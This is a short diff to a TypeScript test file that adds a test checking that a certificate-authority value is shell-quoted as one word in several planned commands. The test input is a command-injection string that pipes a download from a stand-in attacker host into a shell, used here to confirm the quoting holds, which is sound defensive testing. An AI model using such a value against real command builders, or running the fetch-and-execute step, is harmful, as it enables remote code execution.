@@ -152,6 +152,14 @@ test('a conflict of the write says that the plan is out of date', async () => {
   assert.equal((await run(CONFIRM)).outcome, 'outdated');
 });
 
+test('a CA of the address is one word of the command', async () => {
+  const ca = 'x; curl evil.example | sh';
+  for (const verb of ['activate', 'taint', 'revoke', 'restart'] as const) {
+    const { plan } = await planned(stand(), { verb, signer: 'workload', ca });
+    assert.ok(plan.command.includes(` 'x; curl evil.example | sh'`), plan.command);
+  }
+});
+
 test('an address without what the verb acts on has no plan', async () => {
   const wrong: ActionChoice[] = [
     { verb: 'approve' },
